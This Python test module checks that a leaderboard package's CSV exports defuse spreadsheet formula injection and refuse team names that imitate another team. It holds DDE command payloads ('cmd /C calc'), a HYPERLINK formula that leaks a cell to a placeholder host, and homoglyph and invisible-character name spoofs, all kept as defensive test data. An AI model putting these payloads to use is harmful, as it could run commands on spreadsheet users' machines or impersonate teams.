"""Names that a spreadsheet would compute, and names that a reader takes for another team's."""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import replace
from pathlib import Path

from srspace_eval._utils.untrusted_text import unescape_cell
from srspace_eval.errors import SrspaceEvalError
from srspace_eval.ranking import rank
from srspace_eval.ranking.draws import draws_csv
from srspace_eval.ranking.entries import board_entries
from srspace_eval.report.files import TEXT_FORMATS, render_leaderboard
from srspace_eval.results.documents import from_document
from srspace_eval.results.store import write_result
from srspace_eval.tracks.reader import load_track

from . import documents

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

FORMULAS: dict[str, str] = {
    "equals sign": "=cmd|' /C calc'!A0",
    "plus, minus and at": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a semicolon": "team;=cmd|' /C calc'!A0",
    "after a semicolon and a blank": "team; =1+1",
    "after a quote": '"=1+1',
    "after quotes and a comma": '","=1+1',
    "after a tab": "\t=1+1",
    "after a carriage return": "a\r=1+1",
    "after a line break": "a\n=1+1",
    "full width": "＝1＋1",
    "the escape itself": "'=1+1",
    "after an invisible character": "\u200b=1+1",
    "hyperlink": '=HYPERLINK("http://x.example/?"&A1,"t")',
}
"""Kind -> a team's name. Ranked, its cells are texts in every spreadsheet."""

LOOKALIKES: dict[str, str] = {
    "Cyrillic e": "D\u0435epest",
    "Greek epsilon": "D\u03b5epest",
    "zero-width joiner": "Deepest\u200d",
    "zero-width space": "Deep\u200best",
    "soft hyphen": "Dee\xadpest",
    "combining grapheme joiner": "De\u034fepest",
    "variation selector": "Deepest\ufe0f",
    "Hangul filler": "Deepest\u3164",
    "blank at the end": "Deepest ",
    "no-break space": "\xa0Deepest",
    "case": "DEEPEST",
    "full width": "\uff24eepest",
    "mathematical letters": "\U0001d403eepest",
    "Braille blank": "Deepest\u2800",
    "direction override": "\u202dDeepest",
    "tag characters": "Deepest\U000e0041",
}
"""Kind -> a name that looks like ``Deepest``. Beside it, it is refused."""

OTHERS: dict[str, str] = {
    "another accent": "D\u00e9epest",
    "another letter": "Deeper",
    "another script": "\u6df1\u5ea6",
    "no blank": "Deep est",
}
"""Kind -> a name that a reader tells from ``Deepest``. Both are ranked."""

NAMES: dict[str, tuple[str, str]] = {
    **{kind: (name, "some teams are there twice") for kind, name in LOOKALIKES.items()},
    **{kind: (name, "") for kind, name in OTHERS.items()},
}
"""Kind -> a name, and the words of the error."""


def write_team(path: Path, team: str) -> Path:
    honest = from_document(documents.result(), "here")
    image = replace(honest.images[0], image=f"{team} 1")
    write_result(path, replace(honest, team=team, images=(image,), notes=(team,), provenance={team: team}))
    return path


def write_lookalike(path: Path, team: str) -> Path:
    """The same, beside a team ``Deepest``."""
    write_team(path.with_name("first.json"), "Deepest")
    return write_team(path, team)


def attack_formula(path: Path) -> str:
    """Rank a board and write its texts, and the draws of a study; returns the cells that a spreadsheet computes."""
    track = load_track("x4")
    board = path.parents[1]
    (team,) = [entry.team for entry in board_entries(board, track)]
    texts = {form: render_leaderboard(rank(board_entries(board, track), track), form) for form in TEXT_FORMATS}
    draws = draws_csv([team, "other"], [[1.0, 2.0], [2.0, 1.0]])
    found = [f"{form}: {char!r}" for form, text in {**texts, "draws": draws}.items() for char in hidden(text)]
    for text in (texts["csv"], draws):
        rows = [row for delimiter in ",;" for row in csv.reader(io.StringIO(text), delimiter=delimiter)]
        found += [cell for row in rows for cell in row if cell.strip(' "').startswith(STARTS)]
        names = [unescape_cell(cell) for row in csv.reader(io.StringIO(text)) for cell in row]
        if team not in names:
            found.append("the name is not read back")
    return "\n".join(found)


def hidden(text: str) -> set[str]:
    """Control characters and characters that change the direction of text."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c != "\n"}


def attack_lookalike(path: Path) -> str:
    """Rank a board; returns the error, or an empty text."""
    try:
        rank(path.parents[1], "x4")
    except SrspaceEvalError as error:
        return str(error)
    return ""
